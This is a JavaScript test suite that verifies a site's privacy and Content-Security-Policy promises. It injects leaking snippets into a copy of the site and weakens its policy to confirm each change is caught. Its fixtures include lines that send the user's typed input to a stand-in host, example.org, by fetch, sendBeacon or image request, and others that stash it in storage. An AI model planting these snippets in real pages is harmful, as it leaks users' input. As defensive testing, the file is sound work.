// What SECURITY.md promises about the built site; and that a site which breaks a promise is found out: each weakness is
// added to a copy of the site, one at a time.
import assert from "node:assert/strict";
import { cp, mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test from "node:test";
import { launch } from "./browser.mjs";
import { faults, policies, policyFaults } from "./privacy.mjs";
import { dist, integrityOf } from "./server.mjs";

let browser;
test.before(async () => (browser = await launch()));
test.after(() => browser?.close());

/** A copy of the site with one of its scripts changed, as if it had been built so: the hashes of others follow. */
async function changed(t, name, change) {
  const folder = await mkdtemp(join(tmpdir(), "site-"));
  t.after(() => rm(folder, { recursive: true, force: true }));
  await cp(dist, folder, { recursive: true });
  const file = (await readdir(folder)).find((file) => file.startsWith(`${name}-`) && file.endsWith(".js"));
  const edit = async (file, change) => {
    const before = await readFile(join(folder, file), "utf8");
    const after = change(before);
    assert.notEqual(after, before, `${file} is changed`);
    await writeFile(join(folder, file), after);
    return [integrityOf(before), integrityOf(after)];
  };
  const follow = (file, [before, after]) => edit(file, (text) => text.replaceAll(before, after));
  const hashes = await edit(file, change);
  await follow("sw.js", hashes);
  await follow("sw.js", await follow("index.html", hashes));
  return folder;
}

test("the site keeps what is promised", async () => {
  assert.deepEqual(await faults(dist, browser), []);
});

// Run with each text that stands in the page, as the page's own code could.
const WEAKNESSES = {
  "a request to another host": ["fetch('https://example.org/', { method: 'POST', mode: 'no-cors', body: text })", /asks example\.org|policy refuses/],
  "a picture of another host": ["new Image().src = 'https://example.org/?' + text.length", /asks example\.org/],
  "a beacon": ["navigator.sendBeacon('https://example.org/', text)", /asks example\.org|policy refuses/],
  "a socket": ["new WebSocket('wss://example.org/')", /socket|policy refuses/],
  "a connection to a peer": ["new RTCPeerConnection()", /connects to others/],
  "a request to the page's own host": ["fetch('./?ticket=' + encodeURIComponent(text))", /asks its host for/],
  "a report to the page's own host": ["fetch('./', { method: 'POST', body: text })", /sends by POST/],
  "a link that connects": ["document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://example.org' }))", /connects/],
  "a cookie": ["document.cookie = 'visits=1; max-age=9999'", /cookie/],
  "a ticket in localStorage": ["localStorage.last = text", /localStorage\.last/],
  "a ticket in sessionStorage": ["sessionStorage.last = text", /sessionStorage\.last/],
  "a database": ["indexedDB.open('tickets', 1)", /database tickets/],
  "a private file": ["navigator.storage.getDirectory().then((folder) => folder.getFileHandle('tickets', { create: true }))", /private file tickets/],
  "a cache of its own": ["caches.open('tickets').then((cache) => cache.put('./tickets', new Response(text)))", /cache tickets/],
  "a ticket in the cache of the build": ["caches.keys().then(([name = 'build x']) => caches.open(name)).then((cache) => cache.put('./?' + text.length, new Response(text)))", /cache of the build/],
  "a ticket in the history": ["history.replaceState(text, '')", /state of the history/],
  "a ticket in the address": ["setTimeout(() => history.replaceState(null, '', '?' + text.length), 50)", /the address/],
  "a ticket in the name of the window": ["name = text", /name of the window/],
  "a ticket in the clipboard": ["navigator.clipboard.writeText(text)", /copies/],
};

for (const [what, [script, said]] of Object.entries(WEAKNESSES)) {
  test(`${what} is found out`, async (t) => {
    const folder = await changed(t, "boot", (text) =>
      `${text}\naddEventListener("input", ({ target: { id, value: text } }) => { if (id === "input" && text) ${script}; }, true);`);
    const found = await faults(folder, browser);
    assert.ok(found.some((fault) => said.test(fault)), `${said} in ${JSON.stringify(found)}`);
  });
}

test("a policy that is weaker in any place is found out", async () => {
  const built = await policies();
  assert.deepEqual(policyFaults(built), []);
  const [, policy] = built.html.match(/Content-Security-Policy" content="([^"]*)"/);
  const changes = [
    ...policy.split("; ").flatMap((directive) => [
      [`without ${directive}`, (text) => text.replace(`${directive}; `, "").replace(`; ${directive}`, "")],
      [`${directive} https:`, (text) => text.replace(directive, `${directive} https:`)],
    ]),
    ["'unsafe-inline'", (text) => text.replace("'self' 'wasm-unsafe-eval'", "'self' 'wasm-unsafe-eval' 'unsafe-inline'")],
    ["'unsafe-eval'", (text) => text.replace("'wasm-unsafe-eval'", "'unsafe-eval'")],
    ["another host", (text) => text.replace("connect-src 'self'", "connect-src 'self' https://example.org")],
    ["a frame", (text) => text.replace("default-src 'none'", "default-src 'none'; frame-src 'self'")],
    ["no policy", (text) => text.replace("Content-Security-Policy", "Content-Security-Policy-Report-Only")],
  ];
  for (const file of ["html", "headers"]) {
    for (const [what, change] of changes) {
      const weaker = change(built[file]);
      assert.notEqual(weaker, built[file], what);
      assert.notDeepEqual(policyFaults({ ...built, [file]: weaker }), [], `${what} in ${file}`);
    }
  }
  const page = (from, to) => policyFaults({ ...built, html: built.html.replace(from, to) });
  assert.match(String(page("<meta charset", "<script>1</script><meta charset")), /before the policy/);
  assert.match(String(page('content="no-referrer"', 'content="unsafe-url"')), /where a reader comes from/);
});
